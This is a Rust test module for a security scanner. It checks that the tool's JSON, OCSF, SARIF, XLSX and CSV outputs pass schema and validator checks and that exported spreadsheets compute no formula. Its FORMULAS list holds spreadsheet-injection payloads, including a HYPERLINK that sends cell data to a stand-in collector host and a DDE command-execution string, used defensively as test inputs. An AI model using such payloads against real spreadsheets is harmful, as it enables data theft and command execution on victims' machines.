//! Our output before the tools of those who defined its formats.

use super::{Outcome, Rounds, needed};
use crate::command::lab::{Lab, Ran, in_guard, json, letters, sarif_multitool, spreadsheet_program};
use anyhow::{Context, Result, ensure};
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;
use tempfile::TempDir;

const GUARD: Duration = Duration::from_secs(300);

/// The sample company, laid out and looked at.
struct Demo {
    desk: TempDir,
    hinomi: PathBuf,
}

impl Demo {
    fn new(lab: &Lab) -> Result<Self> {
        let demo = Self { desk: tempfile::tempdir()?, hinomi: lab.hinomi()? };
        let ran = demo.hinomi(&["demo", "d"])?;
        ensure!(ran.code == 0, "hinomi demo ended with {}: {}", ran.code, ran.tail());
        Ok(demo)
    }

    /// Runs the program beside the company.
    fn hinomi(&self, arguments: &[&str]) -> Result<Ran> {
        in_guard(Command::new(&self.hinomi).args(arguments).current_dir(self.desk.path()), GUARD)
    }

    /// Writes what a command says to a file.
    fn written(&self, name: &str, arguments: &[&str]) -> Result<PathBuf> {
        let ran = self.hinomi(arguments)?;
        ensure!(matches!(ran.code, 0 | 1), "{arguments:?} ended with {}: {}", ran.code, ran.tail());
        let path = self.desk.path().join(name);
        fs::write(&path, &ran.stdout)?;
        Ok(path)
    }

    /// `scan`, `run` and `report` in one format.
    fn all(&self, format: &str) -> Result<Vec<PathBuf>> {
        let config = ["--config", "d/hinomi.toml", "--format", format];
        let with = |command: &[&'static str]| [command, &config[..]].concat();
        Ok(vec![
            self.written("scan", &with(&["scan", "d/mail", "d/share"]))?,
            self.written("run", &with(&["run"]))?,
            self.written("report", &with(&["report"]))?,
        ])
    }
}

/// Each line of JSON holds to the schema that is checked in.
pub(super) fn json_lines(lab: &Lab, _: Rounds) -> Result<Outcome> {
    let schema = fs::read_to_string(lab.root.join("docs/reference/output.schema.json"))
        .context("failed to read docs/reference/output.schema.json")?;
    let schema = jsonschema::validator_for(&serde_json::from_str(&schema)?)?;
    let demo = Demo::new(lab)?;
    let config = ["--config", "d/hinomi.toml", "--format", "json"];
    let mut files = demo.all("json")?;
    files.push(demo.written("plan", &[&["plan"], &config[..]].concat())?);
    files.push(demo.written("observations", &[&["scan", "d", "--observations"], &config[..]].concat())?);
    let mut seen = BTreeMap::new();
    for file in &files {
        for line in json::lines(&fs::read_to_string(file)?)? {
            let wrong: Vec<String> = schema
                .iter_errors(&line)
                .map(|error| format!("{}: {error}", error.instance_path()))
                .collect();
            ensure!(wrong.is_empty(), "{}: {line}\n{}", file.display(), wrong.join("\n"));
            *seen.entry(json::kind(&line).to_owned()).or_insert(0) += 1;
        }
    }
    for kind in ["finding", "indicator", "observation", "measure", "budget", "summary"] {
        ensure!(
            seen.contains_key(kind),
            "no line of type {kind} was written, so none was held to the schema"
        );
    }
    let broken = serde_json::json!({"schema": 1, "type": "summary", "no_such_key": true});
    ensure!(!schema.is_valid(&broken), "the schema takes anything");
    Ok(Outcome::Passed(format!("{} lines of {} types", seen.values().sum::<u64>(), seen.len())))
}

/// OCSF events pass the compiled schema of OCSF 1.8.0.
pub(super) fn ocsf(lab: &Lab, _: Rounds) -> Result<Outcome> {
    let schema = needed!(lab.schema("ocsf-1.8.0.json"));
    let demo = Demo::new(lab)?;
    let mut check = Command::new("python3");
    check.arg(lab.root.join("lab/peers/ocsf_check.py")).arg(schema).args(demo.all("ocsf")?);
    let ran = in_guard(&check, GUARD)?;
    ensure!(ran.code == 0, "{}", ran.tail());
    Ok(Outcome::Passed(ran.tail()))
}

/// SARIF passes the validator of its makers, warnings included.
pub(super) fn sarif(lab: &Lab, _: Rounds) -> Result<Outcome> {
    let tool = needed!(sarif_multitool(lab));
    let demo = Demo::new(lab)?;
    let mut validated = 0;
    for file in demo.all("sarif")? {
        let named = file.with_extension("sarif");
        fs::rename(&file, &named)?;
        let mut validate = Command::new(&tool);
        // The tool is a .NET program; without ICU on the machine it wants to be told to do without.
        validate.env("DOTNET_SYSTEM_GLOBALIZATION_INVARIANT", "1").arg("validate").arg(&named);
        let ran = in_guard(validate.current_dir(demo.desk.path()), GUARD)?;
        let complained = ["error", "warning"].iter().any(|word| ran.stdout.contains(&format!(" {word} ")));
        ensure!(ran.code == 0 && !complained, "{}", ran.tail());
        ensure!(ran.stdout.contains("Analysis completed successfully"), "{}", ran.tail());
        validated += 1;
    }
    Ok(Outcome::Passed(format!("{validated} logs")))
}

/// What an attacker would put into a subject or a file name to have a spreadsheet compute it.
const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://collect.example/?\"&A1,\"open\")",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "＋1+1",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
];

/// XLSX and CSV open in a spreadsheet program, hold the evidence's text, and compute none of it.
pub(super) fn spreadsheets(lab: &Lab, _: Rounds) -> Result<Outcome> {
    let office = needed!(spreadsheet_program());
    let (desk, hinomi) = (tempfile::tempdir()?, lab.hinomi()?);
    plant(desk.path())?;
    // Were formulas not seen where there is one, their absence would prove nothing.
    let control = desk.path().join("control.csv");
    fs::write(&control, "a,b\n=1+1,x\n")?;
    ensure!(
        opened(&office, &control, desk.path())?.contains("table:formula"),
        "a formula is not seen as one"
    );
    let mut cells = 0;
    for format in ["xlsx", "csv"] {
        let file = desk.path().join(format!("findings.{format}"));
        let mut scan = Command::new(&hinomi);
        scan.args(["scan", "mail", "--format", format, "--output"]).arg(&file);
        let ran = in_guard(scan.current_dir(desk.path()), GUARD)?;
        ensure!(ran.code == 1, "the scan ended with {}: {}", ran.code, ran.tail());
        let sheet = opened(&office, &file, desk.path())?;
        ensure!(!sheet.contains("table:formula"), "{format}: a cell became a formula");
        for planted in FORMULAS {
            ensure!(
                sheet.contains(planted.trim()),
                "{format}: {planted:?} is not in the sheet, so nothing was shown"
            );
        }
        cells += sheet.matches("<table:table-cell").count();
    }
    Ok(Outcome::Passed(format!("{} planted formulas, {cells} cells", FORMULAS.len())))
}

fn plant(desk: &Path) -> Result<()> {
    fs::create_dir(desk.join("mail"))?;
    for (number, formula) in FORMULAS.iter().enumerate() {
        // A slash in an archive's name would be a folder.
        let program = format!("{}.exe", formula.replace('/', "_"));
        let archive = letters::programs("papers.zip", &[&program]);
        let letter = letters::in_a_colleagues_name(formula, number, vec![archive]);
        fs::write(desk.join(format!("mail/{number}.eml")), letter)?;
    }
    Ok(())
}

/// Opens a file and saves it as flat XML, where formulas are plain to see; the text without entities.
fn opened(office: &Path, file: &Path, desk: &Path) -> Result<String> {
    let mut convert = Command::new(office);
    if file.extension().is_some_and(|ending| ending == "csv") {
        // Comma, quote, UTF-8, from the first line: what a spreadsheet on a Japanese or Western desk is told by the
        // byte order mark.
        convert.arg("--infilter=CSV:44,34,76,1");
    }
    convert
        .arg(format!("-env:UserInstallation=file://{}/profile", desk.display()))
        .args(["--headless", "--norestore", "--convert-to", "fods", "--outdir"])
        .arg(desk)
        .arg(file);
    let ran = in_guard(&convert, GUARD)?;
    let flat = file.with_extension("fods");
    let text = fs::read_to_string(&flat)
        .with_context(|| format!("{} was not opened: {}", file.display(), ran.tail()))?;
    fs::remove_file(flat)?;
    let entities = [("&quot;", "\""), ("&apos;", "'"), ("&lt;", "<"), ("&gt;", ">"), ("&amp;", "&")];
    Ok(entities.iter().fold(text, |text, (entity, plain)| text.replace(entity, plain)))
}
